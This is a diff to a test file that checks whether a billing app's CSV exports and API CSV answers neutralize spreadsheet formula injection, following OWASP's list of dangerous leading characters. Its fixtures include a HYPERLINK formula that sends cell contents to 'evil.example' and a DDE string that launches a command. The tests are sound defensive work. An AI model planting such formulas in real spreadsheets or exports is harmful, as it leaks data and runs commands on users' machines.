@@ -7,8 +7,8 @@ import { mkdtempSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { ingest, ledger } from './support/engine.ts'
-import { openApp, type TestApp } from './support/api.ts'
-import { download, micros, sum } from './support/exports.ts'
+import { get, json, openApp, type TestApp } from './support/api.ts'
+import { download, micros, parseCsv, sum } from './support/exports.ts'
 
 const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")'
 const dde = "+cmd|' /C calc'!A0"
@@ -63,12 +63,27 @@ describe('finance exports neutralize formula cells', () => {
     expect(sum(daily.rows.map((r) => r.cost))).toBe(micros('0.0720'))
   })
 
+  it('API answers in CSV (?format=csv) neutralize the same cells; JSON keeps the stored values', async () => {
+    const url = '/api/customer/messages?customer=%2B14155550100'
+    const res = await get(t.app, `${url}&format=csv`)
+    expect(res.statusCode, res.body).toBe(200)
+    const [row] = parseCsv(res.body.endsWith('\r\n') ? res.body : res.body.replaceAll('\n', '\r\n')).rows
+    expect(row).toMatchObject({ message_id: quoted(hyperlink), waba_id: quoted(dde), phone_number_id: quoted(sumCall), template_name: "'=1+2" })
+    const [stored] = await json<{ message_id: string; template_name: string }[]>(t.app, url)
+    expect(stored).toMatchObject({ message_id: hyperlink, template_name: '=1+2' })
+    const filters = parseCsv((await get(t.app, '/api/filters?format=csv')).body.replaceAll(/\r?\n/g, '\r\n')).rows
+    expect(filters.find((f) => f.kind === 'waba' && f.id === quoted(dde))).toMatchObject({ label: "'=1+2" })
+    // Numbers of a CSV answer stay numbers.
+    const spend = (await get(t.app, '/api/spend?granularity=total&split=waba&format=csv')).body
+    expect(spend).toMatch(/,2,0\.047\r?\n/)
+  })
+
   it('quotes exactly the cells OWASP lists', async () => {
-    const cases = ['=a', '+a', '-a', '@a', '\ta', '\ra', 'a=', '', ' =a', '0.5', '-', 'wamid.X']
+    const cases = ['=a', '+a', '-a', '@a', '\ta', '\ra', 'a=', '', ' =a', '0.5', '-', 'wamid.X', '-5', '+1.25', '-2+3', '-1e9', '+']
     const rs = await t.session.db.client.query({
       query: 'SELECT arrayMap(s -> wacost_csv_text(s), {cases:Array(String)}) AS out', query_params: { cases }, format: 'JSONEachRow',
     })
     const [row] = await rs.json<{ out: string[] }>()
-    expect(row?.out).toEqual(["'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", 'a=', '', ' =a', '0.5', "'-", 'wamid.X'])
+    expect(row?.out).toEqual(["'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", 'a=', '', ' =a', '0.5', "'-", 'wamid.X', '-5', '+1.25', "'-2+3", "'-1e9", "'+"])
   })
 })
